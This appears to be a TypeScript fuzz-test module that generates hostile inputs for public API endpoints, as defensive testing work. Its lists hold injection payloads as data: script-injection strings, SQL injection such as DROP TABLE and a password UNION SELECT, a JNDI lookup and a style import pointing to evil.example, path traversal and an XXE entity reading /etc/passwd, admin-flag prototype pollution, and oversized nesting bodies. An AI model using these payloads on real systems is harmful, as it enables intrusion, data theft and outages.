/**
 * Generators of hostile input for the fuzz tests of the public endpoints: strings no form would send
 * (control characters, lone surrogates, right-to-left overrides, megabyte strings, markup, SQL), values of
 * the wrong type, prototype-pollution keys, JSON nested thousands deep, and bodies that are not JSON at
 * all. `mutated(valid)` keeps a valid input and breaks a few of its fields, so cases get past the first
 * check and reach the deeper ones.
 */
import fc from "fast-check";

/** Markup that would run if it reached a page or an email unescaped. */
export const MARKUP = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=alert(1)>",
  "javascript:alert(1)",
  '<a href="javascript:alert(1)">link</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "{{constructor.constructor('alert(1)')()}}",
  "</textarea><script>alert(1)</script>",
  "<style>@import 'http://evil.example/x.css'</style>",
];

const SQLISH = [
  "' OR '1'='1",
  '\'; DROP TABLE "Case"; --',
  "1; SELECT pg_sleep(10)",
  '\\\' UNION SELECT password FROM "StaffUser" --',
  "%' AND 1=0 --",
  "$1::text",
];

export const POLLUTION_KEYS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"];

const UNICODE_EDGES = [
  "\u0000",
  "\u0000\u0000abc",
  "\u0007\u0008\u001b[31m",
  "\r\n\r\n",
  "\ud800",
  "\udfff\ud800",
  "\u202e\u2066evil\u2069",
  "\ufeff",
  "\u200b\u200c\u200d",
  "Z̵̛̖̩͓͎̈́̌͝a̶̢̰͎l̷g̶o̸",
  "👨‍👩‍👧‍👦🏳️‍🌈",
  "𝕳𝖊𝖑𝖑𝖔",
  "ＡＢＣ１２３",
  "İıſK",
  "\uffff\ufffe",
  "\u0085\u2028\u2029",
  "%00%0d%0a",
  "../../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
];

const NEAR_MISSES = [
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "0x10",
  "101000 ",
  "10100",
  "1010000",
  "１０１０００",
  "RB123456785GB",
  "RB12345678GB",
  "rb123456785gb",
  "12345678901234",
  "a@b",
  "a@@b.ru",
  "user@пример.рф",
  '"a b"@example.com',
  "a@b.c\u0000",
  "x".repeat(65) + "@mail.example",
  "2099-01-01",
  "2020-13-45",
  "0000-00-00",
];

/** A string a form would never send. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...MARKUP, ...SQLISH, ...UNICODE_EDGES, ...NEAR_MISSES, ...POLLUTION_KEYS), weight: 6 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 40 }), weight: 4 },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ maxLength: 20 }), weight: 2 },
  // Longer than any field allows: from just over a limit to well past the API's 64 KB body limit.
  {
    arbitrary: fc
      .tuple(fc.constantFrom(101, 201, 501, 2_001, 5_001, 70_000), fc.constantFrom("a", "я", "<", "\u0000", "😀"))
      .map(([length, unit]) => unit.repeat(length)),
    weight: 1,
  },
  {
    arbitrary: fc
      .tuple(fc.constantFrom(...MARKUP, ...SQLISH, ...UNICODE_EDGES), fc.string({ maxLength: 10 }))
      .map(([hostile, filler]) => `${filler}${hostile}${filler}`),
    weight: 3,
  },
);

/** JSON nested `depth` levels deep, as an object (not a string): `{"a":{"a":…}}` or `[[[…]]]`. */
function nested(depth: number, isArray: boolean): unknown {
  let value: unknown = "deep";
  for (let i = 0; i < depth; i += 1) value = isArray ? [value] : { a: value };
  return value;
}

/** Any value of any type, the wrong one for most fields. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 8 },
  {
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      Number.MAX_SAFE_INTEGER,
      -Number.MAX_SAFE_INTEGER,
      1e308,
      [],
      {},
      [null],
      { toString: "x" },
    ),
    weight: 3,
  },
  { arbitrary: fc.integer(), weight: 1 },
  { arbitrary: fc.double(), weight: 1 },
  { arbitrary: fc.array(fc.oneof(hostileString, fc.integer()), { maxLength: 5 }), weight: 1 },
  { arbitrary: fc.dictionary(fc.constantFrom(...POLLUTION_KEYS, "a", "b"), hostileString, { maxKeys: 3 }), weight: 1 },
  {
    arbitrary: fc
      .tuple(fc.constantFrom(50, 500, 1_500), fc.boolean())
      .map(([depth, isArray]) => nested(depth, isArray)),
    weight: 1,
  },
);

/** Adds `key` as an own property even when it is `__proto__` (an object literal would set the prototype). */
function withKey(object: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  Object.defineProperty(object, key, { value, enumerable: true, writable: true, configurable: true });
  return object;
}

type TMutation =
  | { kind: "set"; field: string; value: unknown }
  | { kind: "delete"; field: string }
  | { kind: "pollute"; key: string; value: unknown };

/**
 * A valid input with one to three fields broken: set to a hostile value, removed, or joined by a
 * prototype-pollution key. Some mutations leave the input valid (a hostile string in a free-text field):
 * those cases are accepted and show how hostile text is stored and shown.
 */
export function mutated(
  valid: () => Record<string, unknown>,
  extraFields: string[] = [],
): fc.Arbitrary<Record<string, unknown>> {
  const fields = [...Object.keys(valid()), ...extraFields];
  const mutation: fc.Arbitrary<TMutation> = fc.oneof(
    {
      arbitrary: fc.record({
        kind: fc.constant("set" as const),
        field: fc.constantFrom(...fields),
        value: hostileValue,
      }),
      weight: 8,
    },
    { arbitrary: fc.record({ kind: fc.constant("delete" as const), field: fc.constantFrom(...fields) }), weight: 1 },
    {
      arbitrary: fc.record({
        kind: fc.constant("pollute" as const),
        key: fc.constantFrom(...POLLUTION_KEYS),
        value: hostileValue,
      }),
      weight: 1,
    },
  );
  return fc.array(mutation, { minLength: 1, maxLength: 3 }).map((mutations) => {
    const input = valid();
    for (const change of mutations) {
      if (change.kind === "set") withKey(input, change.field, change.value);
      else if (change.kind === "delete") delete input[change.field];
      else withKey(input, change.key, change.value);
    }
    return input;
  });
}

/** Whatever a client may send as an input: a broken valid one most often, else anything at all. */
export function hostileInput(valid: () => Record<string, unknown>, extraFields: string[] = []): fc.Arbitrary<unknown> {
  return fc.oneof(
    { arbitrary: mutated(valid, extraFields), weight: 12 },
    { arbitrary: hostileValue, weight: 2 },
    { arbitrary: fc.dictionary(hostileString, hostileValue, { maxKeys: 5 }), weight: 1 },
  );
}

/** A raw request body: JSON of a hostile input most often, else text that is not JSON or is JSON abused. */
export function hostileBody(valid: () => Record<string, unknown>): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: hostileInput(valid).map((input) => JSON.stringify(input) ?? "null"), weight: 12 },
    {
      arbitrary: fc.constantFrom(
        "",
        "{",
        '{"a":',
        "[1,2",
        "{'single': 'quotes'}",
        '{"a":1,}',
        "NaN",
        "undefined",
        "\u0000",
        "lastName=Smith&email=a%40b.ru",
        '--boundary\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--boundary--',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        '{"__proto__":{"isAdmin":true}}',
        '{"constructor":{"prototype":{"isAdmin":true}}}',
        "[".repeat(10_000) + "]".repeat(10_000),
        '{"a":'.repeat(5_000) + "1" + "}".repeat(5_000),
        '"' + "a".repeat(70_000) + '"',
        JSON.stringify({ text: "я".repeat(1_100_000) }),
      ),
      weight: 2,
    },
    { arbitrary: fc.string({ unit: "binary", maxLength: 200 }), weight: 1 },
    { arbitrary: fc.json({ maxDepth: 4 }), weight: 1 },
  );
}
